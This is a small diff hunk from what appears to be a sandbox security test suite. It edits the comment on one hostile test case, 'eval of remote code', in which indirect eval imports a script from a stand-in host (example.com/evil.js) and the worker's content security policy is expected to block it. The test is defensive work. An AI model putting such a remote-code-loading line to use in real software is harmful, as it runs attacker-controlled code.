@@ -46,7 +46,7 @@ const CASES: HostileCase[] = [
     name: 'eval of remote code',
     code: "const indirect = eval;\nawait indirect(\"import('https://example.com/evil.js')\");",
     // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
-    // worker's CSP (script-src 'self'), which refuses it before any request is made.
+    // worker's CSP (a script-src of one hash: no URL at all), which refuses it before any request is made.
     message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
   },
   {
